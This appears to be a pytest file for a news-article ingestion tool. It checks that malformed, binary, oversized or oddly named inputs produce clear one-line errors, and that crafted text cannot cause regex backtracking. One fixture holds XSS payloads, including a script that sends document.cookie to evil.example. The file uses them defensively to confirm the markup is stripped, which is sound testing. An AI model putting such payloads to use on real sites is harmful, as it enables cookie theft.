"""Bad input: every case gives one clear line naming the file, and the others still run.

Each row is checked twice: through `read_article` (the exact `ArticleError`) and through the
command line in a subprocess, next to a good article (one stderr line, exit status 0, the
good article's claims written, no file changed). Then odd names, folders, symlink loops,
hostile HTML (read as text: the dashboard's browser check is the dashboard's) and text
crafted to make patterns backtrack. Bad URLs (slow, 404, huge, not HTML) are in
test_ingest.py, each checked to leave the stored articles unchanged.
"""

from __future__ import annotations

import io
import json
import os
import re
import time
import zipfile
from pathlib import Path

import pytest

from extract.corpus import MAX_BYTES, ArticleError, known_languages, read_article

GOOD = (
    "---\ntitle: Pentagon figure\npublished: 2024-10-28\nlanguage: en\n---\n"
    "About 10,000 North Korean troops have been sent to Russia, the Pentagon said on Monday.\n"
)
FM = "---\nlanguage: en\n---\n"  # a valid front matter, for rows that break something else


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("article.txt", GOOD)
    return buffer.getvalue()


def _sparse(path: Path, size: int) -> None:
    """A file of `size` bytes written with one seek: fast, and takes no disk space."""
    with path.open("wb") as stream:
        stream.seek(size - 1)
        stream.write(b"\n")


BAD_FILES = [
    # (id, file name, content, expected reason)
    ("empty file", "empty.txt", b"", "empty file"),
    ("only blank space", "blank.txt", b"  \n\r\n\t\n", "empty file (only blank space)"),
    (
        "PDF bytes",
        "report.txt",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
        "binary file (a PDF document), not text",
    ),
    (
        "PNG bytes",
        "photo.txt",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "binary file (a PNG image), not text",
    ),
    (
        "ZIP bytes",
        "bundle.txt",
        _zip_bytes(),
        "binary file (a ZIP archive or Office document), not text",
    ),
    (
        "NUL bytes",
        "nul.txt",
        FM.encode() + b"text\x00\x00more",
        "binary file (contains NUL bytes), not text",
    ),
    (
        "control characters",
        "ctrl.txt",
        FM.encode() + bytes(range(1, 9)) * 20,
        "binary file (control characters), not text",
    ),
    (
        "broken UTF-16",
        "u16.txt",
        b"\xff\xfe\x00\xd8a\x00",
        "cannot decode text as UTF-16: illegal UTF-16 surrogate",
    ),
    (
        "50 MB file",
        "huge.txt",
        50 * 1024 * 1024,
        f"file too large for an article (50.0 MB, limit {MAX_BYTES / 1024 / 1024:.1f} MB)",
    ),
    (
        "unclosed front matter",
        "open.txt",
        b"---\ntitle: x\nlanguage: en\nBody.\n",
        "front matter opened with '---' on line 1 is never closed",
    ),
    (
        "front matter is a list",
        "list.txt",
        b"---\n- a\n- b\n---\nBody.\n",
        "front matter is a list, not 'key: value' lines",
    ),
    (
        "front matter is one word",
        "word.txt",
        b"---\njust words\n---\nBody.\n",
        "front matter is a single value, not 'key: value' lines",
    ),
    (
        "front matter not YAML",
        "yaml.txt",
        b"---\n  - a\n b: c\n---\nBody.\n",
        # the middle is the YAML parser's own words (libyaml and pure Python differ)
        re.compile(r"broken front matter \(line 3\): .+; expected 'key: value' lines"),
    ),
    (
        "title is a list",
        "tlist.txt",
        b"---\ntitle: [a, b]\n---\nBody.\n",
        "front matter key 'title' must be a single value",
    ),
    (
        "impossible day",
        "feb30.txt",
        b"---\npublished: 2025-02-30\n---\nBody.\n",
        "impossible published date '2025-02-30'",
    ),
    (
        "impossible month",
        "m13.txt",
        b"---\npublished: 2025-13\n---\nBody.\n",
        "impossible published date '2025-13'",
    ),
    (
        "date not a date",
        "when.txt",
        b"---\npublished: yesterday\n---\nBody.\n",
        "published date 'yesterday' is not of the form YYYY-MM-DD, YYYY-MM or YYYY",
    ),
    (
        "unknown language",
        "xx.txt",
        b"---\nlanguage: xx\n---\nBody.\n",
        f"unknown language 'xx' (known: {', '.join(known_languages())})",
    ),
    (
        "no body",
        "nobody.txt",
        b"---\ntitle: Only a title\nlanguage: en\n---\n\n  \n",
        "no text after the front matter",
    ),
    ("odd name, bad content", 'l\'été 🪖 "x".txt', b"", "empty file"),
    # Saved web pages.
    (
        "PDF saved as .html",
        "page.html",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
        "binary file (a PDF document), not text",
    ),
    (
        "PNG saved as .htm",
        "page.htm",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "binary file (a PNG image), not text",
    ),
    ("empty .html", "page.html", b"", "empty file"),
    (
        "page with only a menu",
        "menu.html",
        b"<!DOCTYPE html><html><body><nav><a href='/'>Home</a> <a href='/w'>World</a></nav>"
        b"<script>alert('x')</script></body></html>",
        "HTML page with no article text (no main content found)",
    ),
    (
        "page in a language without lexicon",
        "de.html",
        b'<html lang="de"><body><article><p>Rund 11.000 nordkoreanische Soldaten wurden nach '
        b"Russland geschickt, sagte der Geheimdienst am Montag.</p></article></body></html>",
        f"unknown language 'de' (known: {', '.join(known_languages())})",
    ),
]


def _matches(reason: str, expected: str | re.Pattern[str]) -> bool:
    if isinstance(expected, re.Pattern):
        return expected.fullmatch(reason) is not None
    return reason == expected


def _write(folder: Path, name: str, content: bytes | int) -> Path:
    path = folder / name
    if isinstance(content, int):
        _sparse(path, content)
    else:
        path.write_bytes(content)
    return path


@pytest.mark.parametrize(
    ("name", "content", "reason"), [row[1:] for row in BAD_FILES], ids=[row[0] for row in BAD_FILES]
)
def test_read_article_says_what_is_wrong(tmp_path, name, content, reason):
    path = _write(tmp_path, name, content)
    with pytest.raises(ArticleError) as caught:
        read_article(path)
    assert caught.value.path == str(path)
    assert _matches(caught.value.reason, reason)
    assert str(caught.value) == f"{path}: {caught.value.reason}"
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("name", "content", "reason"), [row[1:] for row in BAD_FILES], ids=[row[0] for row in BAD_FILES]
)
def test_cli_reports_one_line_and_processes_the_others(tmp_path, run_cli, name, content, reason):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    bad = _write(corpus, name, content)
    _write(corpus, "good.txt", GOOD.encode())
    before = _snapshot(corpus)
    result = run_cli(corpus, "-o", tmp_path / "out.json")
    [line] = result.stderr.splitlines()
    assert line.startswith(f"{bad}: ")
    assert _matches(line.removeprefix(f"{bad}: "), reason)
    # Status 0 means an article was read: the good one (the bad one alone gives 1).
    assert result.returncode == 0
    claims = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert {claim["article_id"] for claim in claims} == {"good"}
    assert _snapshot(corpus) == before  # reading never changes a file


def _snapshot(folder: Path) -> dict[str, tuple[int, float]]:
    """Size and modification time of every file under `folder`."""
    return {
        str(path): (path.stat().st_size, path.stat().st_mtime)
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def test_cli_exit_status_is_1_when_no_article_is_read(tmp_path, run_cli):
    empty = _write(tmp_path, "empty.txt", b"")
    result = run_cli(empty)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"{empty}: empty file",
        "no article could be read; nothing written",
    ]
    assert result.stdout == ""


ODD_NAMES = [
    "with spaces.txt",
    "accentué été.txt",
    "quote ' and \" marks.txt",
    "emoji 🪖 troops.txt",
    "-starts-with-dash.txt",
    "semi;colon & $dollar.md",
]


@pytest.mark.parametrize("name", ODD_NAMES)
def test_odd_file_names_work(tmp_path, run_cli, name):
    path = _write(tmp_path, name, GOOD.encode())
    article = read_article(path)
    assert article.article_id == Path(name).stem
    result = run_cli("-o", tmp_path / "out.csv", "--", path)
    assert (result.returncode, result.stderr) == (0, "")


def test_folder_with_no_articles(tmp_path, run_cli):
    empty = tmp_path / "nothing here"
    empty.mkdir()
    _write(empty, "notes.csv", b"a,b\n")
    good = _write(tmp_path, "good.txt", GOOD.encode())
    result = run_cli(empty, good)
    assert result.stderr.splitlines() == [
        f"{empty}: no article files (.txt, .md, .html, .htm) in this folder"
    ]
    assert result.returncode == 0


def test_symlink_loop(tmp_path, run_cli):
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    _write(corpus / "sub", "good.txt", GOOD.encode())
    loop = corpus / "sub" / "back"
    os.symlink(corpus, loop)
    result = run_cli(corpus)
    assert result.stderr.splitlines() == [
        f"{loop}: symbolic link loop (points back to a parent folder), skipped"
    ]
    assert result.returncode == 0


def test_missing_path(tmp_path, run_cli):
    good = _write(tmp_path, "good.txt", GOOD.encode())
    result = run_cli(tmp_path / "missing.txt", good)
    assert result.stderr.splitlines() == [f"{tmp_path / 'missing.txt'}: no such file or folder"]
    assert result.returncode == 0


def test_size_cap_is_checked_before_reading(tmp_path, monkeypatch):
    path = tmp_path / "huge.txt"
    _sparse(path, 50 * 1024 * 1024)

    def no_read(*args, **kwargs):
        raise AssertionError("a file over the size cap must not be opened")

    monkeypatch.setattr(Path, "open", no_read)
    with pytest.raises(ArticleError, match="file too large"):
        read_article(path)


# --- hostile HTML: read as text, nothing of the markup kept ---------------------------------

HOSTILE_PAGE = (
    "<!DOCTYPE html><html lang='en'><head><title>Troops <script>alert('title')</script></title>"
    "<script>document.location='https://evil.example/?'+document.cookie</script></head><body>"
    "<nav><a href='javascript:alert(1)'>Home</a></nav><article>"
    "<p>About 10,000 North Korean troops have been sent to Russia, the Pentagon said on Monday."
    "</p><p><img src=x onerror=\"alert('onerror')\"><a href=\"javascript:alert('link')\">"
    "Read more</a> <svg onload=alert('svg')></svg> <iframe src='javascript:alert(2)'></iframe>"
    "</p><p>Officials in Seoul gave similar figures in recent days, the ministry added.</p>"
    "</article><script>alert('end')</script></body></html>"
)
HOSTILE_TEXT = (
    "---\nlanguage: en\n---\n"
    "<script>alert('x')</script> About 10,000 North Korean troops were sent, the Pentagon said."
    ' <img src=x onerror="alert(1)"> <a href="javascript:alert(2)">link</a>\n'
)


def test_hostile_html_page_is_read_as_text(tmp_path, run_cli):
    page = _write(tmp_path, "hostile.html", HOSTILE_PAGE.encode())
    article = read_article(page)
    for piece in ("<", "alert", "javascript", "onerror", "evil.example", "document."):
        assert piece not in article.body, piece
    assert "About 10,000 North Korean troops have been sent to Russia" in article.body
    result = run_cli(page, "-o", tmp_path / "out.json")
    assert (result.returncode, result.stderr) == (0, "")
    [claim, *_] = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert "alert" not in claim["sentence"] and "<" not in claim["quote"]


def test_markup_in_a_text_article_stays_inert_text(tmp_path, run_cli):
    """A .txt article quoting markup keeps it verbatim as text: the CLI writes data only
    (the dashboard must escape it: checked in its own browser tests)."""
    path = _write(tmp_path, "hostile.txt", HOSTILE_TEXT.encode())
    assert read_article(path).body == HOSTILE_TEXT.split("---\n", 2)[2]
    result = run_cli(path, "-o", tmp_path / "out.csv")
    assert (result.returncode, result.stderr) == (0, "")


def test_page_with_an_impossible_date_still_reads(tmp_path):
    """htmldate (through trafilatura) never returns an impossible date: it falls back to the
    month, written as its first day (a known loss of precision of HTML dates)."""
    path = _write(
        tmp_path,
        "feb30.html",
        b'<html lang="en"><head><meta name="date" content="2025-02-30"></head><body><article>'
        b"<p>About 10,000 North Korean troops were sent to Russia, the Pentagon said.</p>"
        b"</article></body></html>",
    )
    assert read_article(path).published == "2025-02-01"


# --- text crafted to make patterns backtrack -------------------------------------------------

CRAFTED = {
    "digits.txt": "1 " * 15_000,
    "environ.txt": "environ " * 4_000,
    "parentheses.txt": "(" * 30_000 + "10 000 soldats" + ")" * 30_000,
    "thousands.txt": "10 000 " * 4_000,
    "selon.txt": "selon " * 4_000,
    "mixed.txt": "selon environ 10 000 ((1 1 soldats tués " * 800,
}


def test_crafted_text_finishes_in_bounded_time(tmp_path, run_cli):
    """About 30 kB of each crafted text, with a good article: all read, within a minute."""
    for name, body in CRAFTED.items():
        _write(tmp_path, name, ("---\nlanguage: fr\n---\n" + body).encode())
    _write(tmp_path, "good.txt", GOOD.encode())
    start = time.monotonic()
    result = run_cli(tmp_path, "-o", tmp_path / "out.json")
    elapsed = time.monotonic() - start
    assert (result.returncode, result.stderr) == (0, "")
    assert elapsed < 60, f"{elapsed:.1f} s"
    claims = json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert "good" in {claim["article_id"] for claim in claims}
